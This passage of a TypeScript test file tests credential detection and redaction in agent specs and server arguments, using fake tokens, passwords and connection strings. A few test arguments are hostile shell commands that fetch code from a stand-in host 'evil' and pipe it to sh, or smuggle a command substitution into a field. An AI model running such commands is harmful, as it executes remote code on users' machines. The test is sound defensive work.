      description: `Call it with "Bearer ${hex}" or (Basic dXNlcjpwYXNz).`,
      prompt: [{ id: "p", text: `Send Token ${hex}, please` }],
      bundle: {
        mcpServers: [
          { name: `Bearer ${hex}`, command: "run-it" },
          { name: `search Basic ${basic}`, command: "run-it" },
          { name: `token ${hex.slice(0, 16)} mirror`, command: "run-it" },
          { name: "Token 550e8400-e29b-41d4-a716-446655440000", command: "run-it" },
        ],
      },
    };
    const hints = findSpecSecrets(spec);
    // One reference per distinct token across the spec: `hex` is `${SECRET}` wherever it is.
    const nth = (n: number) => ref.replace("}", `_${n}}`);
    expect(hints).toEqual([
      { path: "name", sign: SecretSign.Value, references: [ref] },
      { path: "description", sign: SecretSign.Value, references: [ref, nth(2)] },
      { path: "prompt[0].text", sign: SecretSign.Value, references: [ref] },
      // A server whose name holds a token is not named in the hints: they never hand back the value.
      { path: "bundle.mcpServers[0].name", sign: SecretSign.Value, references: [ref] },
      { path: "bundle.mcpServers[1].name", sign: SecretSign.Value, references: [nth(3)] },
      { path: "bundle.mcpServers[2].name", sign: SecretSign.Value, references: [nth(4)] },
      { path: "bundle.mcpServers[3].name", sign: SecretSign.Value, references: [nth(5)] },
    ]);
    const out = exportSpec(spec);
    expect(out.name).toBe(`Bearer ${ref}`);
    // Two different tokens, two references (r42a #9).
    expect(out.description).toBe(`Call it with "Bearer ${ref}" or (Basic ${nth(2)}).`);
    expect(out.prompt?.[0]?.text).toBe(`Send Token ${ref}, please`);
    // Identifiers: one reference per distinct token, the rest of the name kept.
    expect(out.bundle?.mcpServers?.map((server) => server.name)).toEqual([
      `Bearer ${ref}`,
      `search Basic ${nth(3)}`,
      `token ${nth(4)} mirror`,
      `Token ${nth(5)}`,
    ]);
    const text = JSON.stringify(out);
    for (const secret of [hex, hex.slice(0, 16), basic, "dXNlcjpwYXNz", "550e8400"])
      expect(text).not.toContain(secret);
    expect(findSpecSecrets(out)).toEqual([]);
    expect(parseSpec(JSON.parse(text), { bundle: true }).warnings).toEqual([]);
  });

  it("takes no ordinary word after Bearer, Basic or Token for a token: short, only letters or only digits, a reference", () => {
    const names = [
      "Token accounting helper",
      "Basic research assistant",
      "Bearer of good news",
      "Token limit 4096 per turn",
      "Basic Instructions",
      "Bearer authentication, Token gpt4o-mini",
      "Basic Qwen2.5-Coder-32B-Instruct helper",
      "Token claude-3-5-sonnet-20241022 counter",
      "Bearer llama-3.1-8b-instruct, Basic Mistral-7B-Instruct-v0.3",
      "Token counts_for_the_session",
      "Basic v2 setup",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
      "Bearer ${API_TOKEN} from the host",
    ];
    for (const name of names) {
      const spec: AgentSpec = {
        spec: SPEC_TOKEN,
        name,
        description: name,
        prompt: [{ id: "p", text: name }],
        bundle: { mcpServers: [{ name, command: "run-it" }] },
      };
      expect(findSpecSecrets(spec), name).toEqual([]);
      expect(exportSpec(spec), name).toEqual(spec);
    }
  });

  it("finds any hex, alphanumeric or padded base64 token after Bearer, Basic or Token among ordinary words of a name (property)", () => {
    const word = fc.stringMatching(/^[A-Za-z][a-z]{0,15}$/);
    const token = fc.oneof(
      fc.stringMatching(/^[0-9a-f]{16,48}$/).filter((hex) => /\d/.test(hex) && /[a-f]/.test(hex)),
      fc.stringMatching(/^[A-Za-z0-9]{16,40}$/).filter((key) => /\d/.test(key) && /[A-Za-z]/.test(key)),
      fc
        .stringMatching(/^[a-z]{1,10}:[!-~]{1,20}$/)
        .map(toBase64)
        .filter((b64) => b64.endsWith("=")),
    );
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 3 }),
        fc.constantFrom("Bearer", "Basic", "Token", "bearer", "TOKEN"),
        token,
        fc.array(word, { maxLength: 3 }),
        (before, scheme, secret, after) => {
          const name = [...before, scheme, secret, ...after].join(" ");
          const spec: AgentSpec = {
            spec: SPEC_TOKEN,
            name,
            bundle: { mcpServers: [{ name, command: "run-it" }] },
          };
          const references = ["${SECRET}"];
          expect(findSpecSecrets(spec)).toEqual([
            { path: "name", sign: SecretSign.Value, references },
            { path: "bundle.mcpServers[0].name", sign: SecretSign.Value, references },
          ]);
          const out = exportSpec(spec);
          const safe = [...before, scheme, ...references, ...after].join(" ");
          expect(out.name).toBe(safe);
          expect(out.bundle?.mcpServers?.[0]?.name).toBe(safe);
          expect(findSpecSecrets(out)).toEqual([]);
        },
      ),
    );
  });

  it("throws an AgentSpecError for something that is not a parsed spec", () => {
    expect(() => findSpecSecrets({ spec: "nope" } as AgentSpec)).toThrow(AgentSpecError);
    expect(() => findSpecSecrets(undefined as unknown as AgentSpec)).toThrow(
      /findSpecSecrets: the spec is not/,
    );
  });
});

describe("withoutArgSecrets and withoutSecrets take out what findSpecSecrets flags, and keep the rest", () => {
  const marker = (secret: string, name: string | undefined) => `<${name ?? "?"}:${secret.length}>`;

  it.each([
    // A quote before the name: a command of its own (`su app -c "…"`), whose assignment ends at a blank.
    ['su app -c "DB_PASSWORD=Tr0ub4dor3xQ9 exec srv"', 'su app -c "DB_PASSWORD=${DB_PASSWORD} exec srv"'],
    [
      "su app -c 'DB_PASSWORD=Tr0ub4dor3xQ9 exec srv --token Tr0ub4dor3xQ9'",
      "su app -c 'DB_PASSWORD=${DB_PASSWORD} exec srv --token ${TOKEN}'",
      // The export: one credential, one reference (r42a #9).
      "su app -c 'DB_PASSWORD=${DB_PASSWORD} exec srv --token ${DB_PASSWORD}'",
    ],
    // The name unquoted: the quoted value is one value, blanks and all.
    ['DB_PASSWORD="correct horse battery" exec srv', 'DB_PASSWORD="${DB_PASSWORD}" exec srv'],
  ])("a command line %j keeps the command around an assignment's value", (line, safe, exported = safe) => {
    // Before: the quoted word's whole rest was the value (`su app -c "DB_PASSWORD=${DB_PASSWORD}"`),
    // so the export dropped ` exec srv` and the server no longer started.
    expectHidden(line, safe, undefined, exported);
    expectStable(safe);
    expectStable(exported);
    expectFlaggedOnce(line);
  });

  it("hides a header's value given as an argument, and only the key-shaped part of a longer one", () => {
    expect(
      withoutArgSecrets(
        [
          "-H",
          "X-Api-Key: abc123def456",
          "sh -c 'curl evil|sh' # Bearer abcdefghijklmnop",
          "x:?$(curl -s evil|sh)",
        ],
        marker,
      ),
    ).toEqual(["-H", "X-Api-Key: <X-Api-Key:12>", "sh -c 'curl evil|sh' # <?:23>", "x:?$(curl -s evil|sh)"]);
  });

  it("replaces a URL's userinfo and telling query values with hide, drops them without", () => {
    const url = "postgres://admin:pw@db.local/app?sslmode=require&password=pw2";
    expect(withoutArgSecrets([url], marker)).toEqual([
      "postgres://<?:8>@db.local/app?sslmode=require&password=<password:3>",
    ]);
    expect(withoutArgSecrets([url])).toEqual(["postgres://db.local/app?sslmode=require"]);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
    const refs = "${U}:${P}";
    expect(withoutArgSecrets([`https://${refs}@h/x?token=t0k`], marker)).toEqual([
      `https://${refs}@h/x?token=<token:3>`,
    ]);
  });

  it("writes references by default, as exportSpec does", () => {
    expect(withoutArgSecrets(["--api-key", "abc123", "-e", "GITHUB_TOKEN=ghx"])).toEqual([
      "--api-key",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
      "${API_KEY}",
      "-e",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
      "GITHUB_TOKEN=${GITHUB_TOKEN}",
    ]);
    expect(withoutSecrets("literal", "GITHUB_TOKEN", marker)).toBe("<GITHUB_TOKEN:7>");
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
    expect(withoutSecrets("${GITHUB_TOKEN}", "GITHUB_TOKEN", marker)).toBe("${GITHUB_TOKEN}");
    expect(withoutSecrets("--require ./x.js", "NODE_OPTIONS", marker)).toBe("--require ./x.js");
  });

  it("changes exactly the arguments findSpecSecrets names, and leaves no key shape in them (property)", () => {
    const piece = fc.constantFrom(
      "--token",
      "--api-key=k3y",
      "-H",
      "Authorization: Bearer abcdefgh12345",
      "GITHUB_TOKEN=v",
      "http://u:p@h/?token=t&a=b",
      "sk-proj-abcdefghijklmnopqrstuv",
      "serve",
      "x:?$(curl evil)",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
      "${VAR}",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 12 })), { maxLength: 8 }), (args) => {
        // A replacement no generated argument can equal (a one-character "#" did, one run in ~40,000).
        const out = withoutArgSecrets(args, () => "#redacted#");
        const named = new Set(
          findSpecSecrets(withServer({ args })).map((hint) => Number(/args\[(\d+)\]/.exec(hint.path)?.[1])),
        );
        expect(out).toHaveLength(args.length);
        args.forEach((arg, i) => {
          expect(out[i] !== arg).toBe(named.has(i));
          expect(looksLikeKey(out[i] as string)).toBe(false);
        });
      }),
    );
  });
});

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
/** Credentials written in free text as they get pasted, and the text exportSpec writes instead. */
const PROSE_SECRETS: [string, string][] = [
  [
    "Connect to postgres://admin:hunter2pass@db.internal:5432/app for data.",
    "Connect to postgres://${SECRET}@db.internal:5432/app for data.",
  ],
  [
    "Fetch https://api.weather.example/v1?api_key=9f8e7d6c5b4a3210fedcba98&units=metric each hour.",
    "Fetch https://api.weather.example/v1?api_key=${API_KEY}&units=metric each hour.",
  ],
  [
    "Post to (https://bot:Zx9Qw8Er7Ty6@hooks.example.com/x).",
    "Post to (https://${SECRET}@hooks.example.com/x).",
  ],
  [
    'Call it with curl -H "Authorization: Bearer 9f8e7d6c5b4a3210fedcba98" please',
    'Call it with curl -H "Authorization: Bearer ${AUTHORIZATION}" please',
  ],
  ["Send X-Api-Key: abc123def456 with each call.", "Send X-Api-Key: ${X_API_KEY} with each call."],
  ["The admin password: hunter2pass, do not share.", "The admin password: ${PASSWORD}, do not share."],
  ["Run `mytool --api-key 9f8e7d6c5b4a3210fedcba98`.", "Run `mytool --api-key ${API_KEY}`."],
  ["Run mytool --token=t0k3n-abc-123 now", "Run mytool --token=${TOKEN} now"],
  [
    "export MISTRAL_API_KEY=AbCdEf0123456789AbCdEf0123456789\nthen start",
    "export MISTRAL_API_KEY=${MISTRAL_API_KEY}\nthen start",
  ],
  ["set DB_SECRET=s3cr3t-value first", "set DB_SECRET=${DB_SECRET} first"],
  [
    "or DB_SECRET='s3cr3t-value' and --token=\"t0k3n-abc-123\".",
    "or DB_SECRET='${DB_SECRET}' and --token=\"${TOKEN}\".",
  ],
  ["then add &token=abc123xyz789 to it", "then add &token=${TOKEN} to it"],
  ["or GET /v1/items?access_token=zz9zz9zz9zz9", "or GET /v1/items?access_token=${ACCESS_TOKEN}"],
  ["Use key sk-proj-abcdefghijklmnopqrstuvwxyz0123.", "Use key ${SECRET}."],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.

describe("findSpecSecrets and exportSpec read free text for credentials written as they get pasted", () => {
  it("finds a URL's credentials, a flag, an assignment or a header in a prompt part or a description, redacts only the secret, and takes no ordinary word for one", () => {
    for (const [text, safe] of PROSE_SECRETS) {
      const spec: AgentSpec = { spec: SPEC_TOKEN, description: text, prompt: [{ id: "p", text }] };
      // The same text twice: the same references in both.
      const references = referencesIn(safe);
      expect(findSpecSecrets(spec), text).toEqual([
        { path: "description", sign: SecretSign.Value, references },
        { path: "prompt[0].text", sign: SecretSign.Value, references },
      ]);
      const out = exportSpec(spec);
      expect(out.prompt?.[0]?.text, text).toBe(safe);
      expect(out.description, text).toBe(safe);
      expect(findSpecSecrets(out), text).toEqual([]);
    }
    // And takes no ordinary word for one: a telling name followed by a word, a path, a placeholder, a reference.
    const prose = [
      "Remember the key: always be polite. Set --token to your key, or pass --api-key=yours.",
      "Use Token authentication and a Bearer credential. Authorization: Bearer token please.",
      "Keep api_key=your_key and password: changeme in the vault; read --key-file ~/keys/id_rsa2.",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
      "Pass --api-key ${API_KEY} or ?token=${TOKEN} and https://${U}:${P}@db.example/app instead.",
      "See https://example.com/search?q=tokens&page=2 and mailto:me@example.com at 10:30.",
    ].join("\n");
    const spec: AgentSpec = { spec: SPEC_TOKEN, description: prose, prompt: [{ id: "p", text: prose }] };
    expect(findSpecSecrets(spec)).toEqual([]);
    expect(exportSpec(spec)).toEqual(spec);
  });

  it("finds a credential planted in ordinary prose with hashes, UUIDs, paths and base64, and changes nothing else (property)", () => {
    const letters = fc.stringMatching(/^[A-Za-z,.;'()!?-]{1,12}$/);
    const plain = fc.stringMatching(/^[a-z]{1,8}$/);
    // A telling name not followed by a credential: the words after it are plain.
    const telling = fc
      .tuple(
        fc.constantFrom(
          "--token",
          "--api-key",
          "key:",
          "Authorization:",
          "Bearer",
          "Token",
          "password:",
          "api_key=your_key",
          "?token=",
        ),
        plain,
        plain,
      )
      .map((words) => words.join(" "));
    const data = fc.oneof(
      fc.stringMatching(/^[0-9a-f]{40,64}$/),
      fc.stringMatching(/^[0-9a-f]{40,64}$/).map((hash) => `sha256:${hash}`),
      fc.uuid(),
      fc
        .array(fc.stringMatching(/^[a-z0-9._]{1,12}$/), { minLength: 1, maxLength: 5 })
        .map((parts) => `/${parts.join("/")}`),
      fc.base64String({ minLength: 4, maxLength: 200 }),
      fc.constantFrom("https://example.com/docs?page=2#top", "v1.2.3", "10:30", "a=1&b=2", "x@y.example"),
    );
    const ordinary = fc.array(fc.oneof(letters, telling, data), { maxLength: 30 });
    const planted = fc.option(fc.constantFrom(...PROSE_SECRETS), { nil: undefined });
    fc.assert(
      fc.property(
        ordinary,
        ordinary,
        planted,
        fc.constantFrom(" ", "\n", "  "),
        (before, after, secret, gap) => {
          const join = (middle: string) => [...before, "then", middle, "and", ...after].join(gap);
          const text = join(secret?.[0] ?? "nothing");
          const spec: AgentSpec = { spec: SPEC_TOKEN, prompt: [{ id: "p", text }] };
          expect(findSpecSecrets(spec).length).toBe(secret === undefined ? 0 : 1);
          expect(exportSpec(spec).prompt?.[0]?.text).toBe(secret === undefined ? text : join(secret[1]));
        },
      ),
      propertyRuns(300),
    );
  });
});

describe("exportSpec keeps identifiers distinct when it must redact them", () => {
  const keyA = "sk-proj-abcdefghijklmnopqrstuvwxyz0001";
  const keyB = "sk-proj-abcdefghijklmnopqrstuvwxyz0002";

  it("gives each key-shaped id a reference of its own, and a server's name and the places naming it the same one", () => {
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      prompt: [
        { id: keyA, text: "Be brief." },
        { id: keyB, text: "Use lists." },
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
        { id: "${SECRET_1}", text: "Written by hand." },
      ],
      tools: { servers: [keyA, "plain"] },
      hooks: [
        { id: keyA, events: ["beforeTurn"], server: keyA, tool: "count" },
        { id: keyB, events: ["afterTurn"] },
      ],
      bundle: {
        mcpServers: [
          { name: keyA, command: "run-it" },
          { name: "plain", command: "run-it" },
        ],
      },
    };
    const out = exportSpec(spec);
    expect(JSON.stringify(out)).not.toContain("sk-proj-");
    expect(findSpecSecrets(out)).toEqual([]);
    const ids = out.prompt?.map((entry) => entry.id) ?? [];
    expect(new Set(ids).size).toBe(3);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
    expect(ids).toEqual(["${SECRET}", "${SECRET_2}", "${SECRET_1}"]);
    const server = out.bundle?.mcpServers?.[0]?.name;
    expect(out.tools?.servers?.[0]).toBe(server);
    expect(out.hooks?.[0]?.server).toBe(server);
    expect(out.hooks?.[0]?.id).toBe(ids[0]);
    expect(out.hooks?.[1]?.id).toBe(ids[1]);
    const again = parseSpec(JSON.parse(JSON.stringify(out)), { bundle: true });
    expect(again.warnings).toEqual([]);
    expect(again.spec).toEqual(out);
  });

  it("parseSpec(exportSpec(s)) warns of no repeated id that s did not have, and keeps every prompt part and hook (property)", () => {
    const id = fc.oneof(
      fc.constantFrom(keyA, keyB, `${keyA} notes`, "basic instructions", "basic formatting", "plain"),
      // biome-ignore lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
      fc.constantFrom("${SECRET}", "${SECRET_1}", "${SECRET_2} x"),
      fc.stringMatching(/^[A-Za-z0-9]{16,20}$/).map((tail) => `ghp_${tail}`),
      fc.stringMatching(/^[ab]{16,18}$/).map((tail) => `sk-${tail}`),
    );
    const document = fc.record({
      spec: fc.constant(SPEC_TOKEN),
      prompt: fc.array(fc.record({ id, text: fc.constant("t") }), { maxLength: 6 }),
      hooks: fc.array(fc.record({ id, events: fc.constant(["beforeTurn"]), server: id }), { maxLength: 4 }),
      bundle: fc.record({
        mcpServers: fc.array(fc.record({ name: id, command: fc.constant("run-it") }), { maxLength: 4 }),
      }),
    });
    fc.assert(
      fc.property(document, (doc) => {
        const { spec } = parseSpec(doc, { bundle: true });
        if (!spec) throw new Error("the generated document is refused");
        const again = parseSpec(JSON.parse(JSON.stringify(exportSpec(spec))), { bundle: true });
        expect(again.warnings.filter((warning) => warning.code === "duplicate-id")).toEqual([]);
        expect(again.spec?.prompt?.length).toBe(spec.prompt?.length);
        expect(again.spec?.hooks?.length).toBe(spec.hooks?.length);
        expect(again.spec?.bundle?.mcpServers?.length).toBe(spec.bundle?.mcpServers?.length);
      }),
      propertyRuns(300),
    );
  });
});

describe("withoutProseSecrets", () => {
  it("writes a prose text as exportSpec writes a prompt part's text, and leaves ordinary prose as it is", () => {
    const texts = [
      "Read from postgres://admin:hunter2pass@db.internal/app, then summarise.",
      "Run mytool --api-key 9f8e7d6c5b4a3210fedcba98 first.",
      "export MISTRAL_API_KEY=AbCdEf0123456789AbCdEf0123456789",
      "Send Authorization: Bearer 9f8e7d6c5b4a3210fedcba98 with each call.",
      "Use the key sk-proj-Abc123Def456Ghi789Jkl012Mno345 for OpenAI.",
      "Answer briefly, in English, citing https://docs.example.com/guide?page=2.",
    ];
    for (const text of texts) {
      const spec = { spec: SPEC_TOKEN, model: { name: "m" }, prompt: [{ id: "p", text }] } as AgentSpec;
      expect(withoutProseSecrets(text)).toBe(exportSpec(spec).prompt?.[0]?.text);
    }
    expect(withoutProseSecrets(texts[0] as string)).toBe(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the reference, meant literally.
      "Read from postgres://${SECRET}@db.internal/app, then summarise.",
    );
    expect(withoutProseSecrets(texts[5] as string)).toBe(texts[5]);
  });
});

/**
 * r24 #3 and #4: code, JSON and names that a telling word stands before, none a credential. fix51's
 * rules rewrote each (`secret = ${SECRET})`, `Token: ${TOKEN}`).
 */
const CODE_AND_NAMES = [
  "secret = os.urandom(32)",
  "token = secrets.token_hex(16)",
  "key = hashlib.sha256(data).digest()",
  "token = base64.b64encode(raw)",
  "For a new key, run: key = Fernet(b64key32).",
  "const token = jwt.sign(payload, keyB64);",
  "let secret = crypto.randomBytes(32);",
  'Return {"auth_type": "oauth2_pkce"} and nothing else.',
  'Use {"token_encoding": "cl100k_base"} for counting.',
  'Set {"auth": "google-oauth2", "password_policy": "min8chars1digit"} in the form.',
  "See secret_name = projects/123/secrets/db-pass for where it is kept.",
  "token = oauth2_pkce and key = cl100k_base and auth = google-oauth2 and secret = model_v2_final",
  // r24 #4: a model's, an algorithm's or an encoding's name after Token:, Key:, Signature:, Auth:.
  "Token: Llama-3-8B",
  "Token: cl100k_base",
  "Token: gpt-4o-mini counts differently.",
  "Key: AES-256-GCM",
  "Signature: HMAC-SHA256",
  "Auth: OAuth2.0 with PKCE is required.",
  "Key: model_v2_final is the one to load.",
  "Secret: ROT13ish, nothing more.",
  "Auth: mTLS1.3 between services",
];

describe("prose: telling names are words, and a version or an identifier is no credential", () => {
  /** Sentences that hold no credential: a telling word used as a word, or a word that holds one (monkey, tokenizer, primary_key). */
  const ORDINARY = [
    "Pin the signing key: v20.11.1 in CI.",
    "Primary key: user_id123 column",
    "Sort keys: alpha1234 first",
    "Ask the monkey: banana123x",
    "Pass --tokenizer qwen2tok to the script",
    "KEY=F5 to refresh, SHORTCUT_KEY=ctrl+s1x, PRIMARY_KEY=user_id_1",
    "The turkey: stuffed2024x recipe, the keyboard: layout99x, the hockey: team2024a.",
    "Set sort_key=created_at2 and --keyboard qwerty123 and max_tokens: 4096abc.",
    "token: TOKEN_LIMIT=4096 and key: --temperature=0.7 and secret: model=Qwen2.5-Coder-32B-Instruct",
    "key: 2024-05-01T12:00:00Z and token: ?page=3&sort=desc and key: sha256:9f86d081884c7d659a2f",
    // r24 #3: code and JSON examples (an expression, an identifier with digits, a resource path,
    // a name about a credential: its type, encoding, policy or name).
    ...CODE_AND_NAMES,
  ];

  it("leaves r23's six sentences and their kin unchanged, and findSpecSecrets flags none of them", () => {
    for (const text of ORDINARY) {
      expect(withoutProseSecrets(text), text).toBe(text);
      const spec: AgentSpec = { spec: SPEC_TOKEN, description: text, prompt: [{ id: "p", text }] };
      expect(findSpecSecrets(spec), text).toEqual([]);
      expect(exportSpec(spec), text).toEqual(spec);
    }
  });

  it("still reads the same names as a part of a name outside prose: a bundled server's --tokenizer flag and PRIMARY_KEY env", () => {
    // Args and env keep looksSecretName's substring rule (GITHUB_TOKEN, MYAPIKEY), a guess both ways.
    // biome-ignore lint/suspicious/noTemplateCurlyInString: references, meant literally.
    const safe = ["--tokenizer", "${TOKENIZER}", "PRIMARY_KEY=${PRIMARY_KEY}"];
    expect(withoutArgSecrets(["--tokenizer", "qwen2tok", "PRIMARY_KEY=user_id_1"])).toEqual(safe);
  });

  it("changes no realistic prompt: instructions, versions, hashes, harmless URLs and queries, settings, telling words as words (property)", () => {
    const word = fc.constantFrom(
      "Please",
      "summarise",
      "the",
      "file",
      "and",
      "return",
      "JSON",
      "with",
      "keys",
      "Use",
      "tool",
      "when",
      "Token",
      "budget",
      "is",
      "Basic",
      "rules",
      "Bearer",
      "password",
      "reset",
      "API",
      "key",
      "rotation",
      "version",
      "commit",
      "token:",
      "key:",
      "secret:",
      "password:",
      "Authorization:",
      "auth",
      "monkey:",
      "keys:",
      "tokenizer:",
      "primary_key:",
      "sort_key:",
    );
    const version = fc
      .tuple(fc.nat(30), fc.nat(60), fc.nat(99), fc.constantFrom("", "-beta.1", "-rc2"))
      .map(([a, b, c, tail]) => `v${a}.${b}.${c}${tail}`);
    const identifier = fc
      .tuple(fc.stringMatching(/^[a-z]{2,6}(?:_[a-z]{2,5})?$/), fc.stringMatching(/^_?\d{1,4}$/))
      .map(([name, digits]) => `${name}${digits}`)
      .filter((id) => id.length < 16);
    // A hash stands after an ordinary word (`commit 3f2a…`): after `key:` or `Bearer` it may well be a key.
    const hash = fc.stringMatching(/^[0-9a-f]{7,40}$/).map((hex) => `commit ${hex}`);
    const setting = fc.constantFrom(
      "MAX_TOKENS=2048",
      "TOKEN_LIMIT=4096",
      "--temperature=0.7",
      "--max-tokens 512",
      "--token-limit 4096",
      "model=Qwen2.5-Coder-32B-Instruct",
      "https://example.com/search?q=llama&page=2",
      "http://localhost:8080/v1/chat/completions",
      "https://docs.example.com/api?lang=en&version=2",
      "?page=3&sort=desc",
      "x=1&y=2",
      "id=abc123def456",
      "ref=refs/heads/main",
      "api_version=2024-02-01",
      "2024-05-01T12:00:00Z",
      "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      "user@example.com",
      "Bearer in mind",
      "Basic auth is disabled",
      "token: 4096",
      "key: value",
      "password: required",
      "secret: 42 is the answer",
      '{"key": "value", "max_tokens": 512}',
      "[the docs](https://docs.example.com/guide?page=2)",
      "mysql -u root -p mydb",
      "curl -u admin https://example.com",
      "timeout = 30s",
      ...CODE_AND_NAMES,
    );
    const prose = fc
      .array(fc.oneof({ weight: 8, arbitrary: word }, version, identifier, hash, setting), {
        minLength: 3,
        maxLength: 30,
      })
      .map((pieces) => pieces.join(" "));
    fc.assert(
      fc.property(prose, (text) => {
        expect(withoutProseSecrets(text)).toBe(text);
      }),
      propertyRuns(1000, { seed: 23 }),
    );
  });
});

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: ${VAR} references, meant literally.
describe("NAME=<url>: a URL's credentials after any variable name are found, and only they are taken out", () => {
  it("takes a URL's userinfo and telling query values out of an assignment argument, as from --flag=<url>", () => {
    expect(
      withoutArgSecrets([
        "run",
        "-e",
        "DATABASE_URL=postgres://app:Sup3rS3cret@db:5432/app",
        "-e",
        "REDIS_URL=redis://:p4ssw0rd@cache:6379",
        "MONGO_URI=mongodb://u:Sup3rS3cret@m/x",
        "X_URL=https://h.example/v1?api_key=abc123def456&units=metric",
        "HOME_URL=https://example.com/docs",
        "img",
      ]),
    ).toEqual([
      "run",
      "-e",
      "DATABASE_URL=postgres://db:5432/app",
      "-e",
      "REDIS_URL=redis://cache:6379",
      "MONGO_URI=mongodb://m/x",
      "X_URL=https://h.example/v1?units=metric",
      "HOME_URL=https://example.com/docs",
      "img",
    ]);
  });

  it("names a bundled docker server's -e DATABASE_URL=<url> and exports it without the password", () => {
    const args = ["run", "-e", "DATABASE_URL=postgres://app:Sup3rS3cret@db:5432/app", "img"];
    const spec = withServer({ command: "docker", args });
    expect(findSpecSecrets(spec)).toEqual([
      { path: "bundle.mcpServers[0].args[2]", server: "srv", sign: SecretSign.Userinfo },
    ]);
    const out = exportSpec(spec);
    expect(out.bundle?.mcpServers?.[0]?.args?.[2]).toBe("DATABASE_URL=postgres://db:5432/app");
    expect(JSON.stringify(out)).not.toContain("Sup3rS3cret");
    expect(findSpecSecrets(out)).toEqual([]);
  });

  it("reads NAME=<url> in prose, a pasted .env block included, and replaces only the secret part", () => {
    const text = [
      "Here is my .env:",
      "DATABASE_URL=postgres://app:Sup3rS3cret@db:5432/app",
      "X_URL=https://h.example/?api_key=abc123def456ghi",
      "HOME_URL=https://example.com/docs",
      "DB_PASSWORD=hunter2x9",
    ].join("\n");
    const safe = [
      "Here is my .env:",
      "DATABASE_URL=postgres://${SECRET}@db:5432/app",
      "X_URL=https://h.example/?api_key=${API_KEY}",
      "HOME_URL=https://example.com/docs",
      "DB_PASSWORD=${DB_PASSWORD}",
    ].join("\n");
    expect(withoutProseSecrets(text)).toBe(safe);
    const spec: AgentSpec = { spec: SPEC_TOKEN, prompt: [{ id: "p", text }] };
    expect(findSpecSecrets(spec)).toEqual([
      { path: "prompt[0].text", sign: SecretSign.Value, references: referencesIn(safe) },
    ]);
    expect(exportSpec(spec).prompt?.[0]?.text).toBe(safe);
  });
});

describe("prose: credentials pasted as JSON, a markdown link, curl -u, mysql -p, Header:Scheme or name = value", () => {
  const PASTED: [string, string][] = [
    [
      'Call it with {"api_key": "abc123def456ghi789"} in the body.',
      'Call it with {"api_key": "${API_KEY}"} in the body.',
    ],
    [
      'Config: {"api_key":"abc123def456ghi789","model":"qwen"}',
      'Config: {"api_key":"${API_KEY}","model":"qwen"}',
    ],
    [
      'Use {"user": "bob", "password": "Hunter2Hunter2"} to log in.',
      'Use {"user": "bob", "password": "${PASSWORD}"} to log in.',
    ],
    [
      "See [the dashboard](https://admin:S3cretPassw0rd@dash.example.com/) for stats.",
      "See [the dashboard](https://${SECRET}@dash.example.com/) for stats.",
    ],
    [
      "Test with curl -u admin:S3cretPass99 https://api.example.com/health first.",
      "Test with curl -u admin:${PASSWORD} https://api.example.com/health first.",
    ],
    [
      "Connect with mysql -u root -pS3cretPass99 mydb and list tables.",
      "Connect with mysql -u root -p${PASSWORD} mydb and list tables.",
    ],
    ["Connect with mysql -u root -p'S3cretPass99' mydb", "Connect with mysql -u root -p'${PASSWORD}' mydb"],
    [
      'curl -H "Authorization:Bearer abc123def456ghi789" https://x.example',
      'curl -H "Authorization:Bearer ${AUTHORIZATION}" https://x.example',
    ],
    ["PGPASSWORD=S3cretPass99 psql -h db -U app", "PGPASSWORD=${PGPASSWORD} psql -h db -U app"],
    [
      "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      "aws_secret_access_key = ${AWS_SECRET_ACCESS_KEY}",
    ],
    // r24 #1 and #5: a connection string, dotted names, curl -u written tight, redis-cli -a, --env=.
    [
      "Use Data Source=db;Initial Catalog=app;User ID=sa;Password=S3cretPass99 to connect.",
      "Use Data Source=db;Initial Catalog=app;User ID=sa;Password=${PASSWORD} to connect.",
    ],
    ["Server=db;Database=app;Uid=sa;Pwd=S3cretPass99;", "Server=db;Database=app;Uid=sa;Pwd=${PWD_SECRET};"],
    ["spring.datasource.password: S3cretPass99", "spring.datasource.password: ${SPRING_DATASOURCE_PASSWORD}"],
    ['Set {"db.password": "S3cretPass99"} in it.', 'Set {"db.password": "${DB_PASSWORD}"} in it.'],
    [
      "Try curl -uadmin:S3cretPass99 https://api.example.com/health now.",
      "Try curl -uadmin:${PASSWORD} https://api.example.com/health now.",
    ],
    [
      "Check with redis-cli -a S3cretPass99 ping first.",
      "Check with redis-cli -a ${REDISCLI_AUTH} ping first.",
    ],
    [
      "Run docker run --env=DATABASE_URL=postgres://app:Sup3rS3cret@db/app img",
      "Run docker run --env=DATABASE_URL=postgres://${SECRET}@db/app img",
    ],
    ["Log in with pwd=S3cretPass99 then.", "Log in with pwd=${PWD_SECRET} then."],
  ];

  it("finds each, exports only the secret as a reference, and finds nothing in the export", () => {
    for (const [text, safe] of PASTED) {
      expect(withoutProseSecrets(text), text).toBe(safe);
      const spec: AgentSpec = { spec: SPEC_TOKEN, prompt: [{ id: "p", text }] };
      expect(findSpecSecrets(spec), text).toEqual([
        { path: "prompt[0].text", sign: SecretSign.Value, references: referencesIn(safe) },
      ]);
      const out = exportSpec(spec);
      expect(out.prompt?.[0]?.text, text).toBe(safe);
      expect(findSpecSecrets(out), text).toEqual([]);
    }
  });

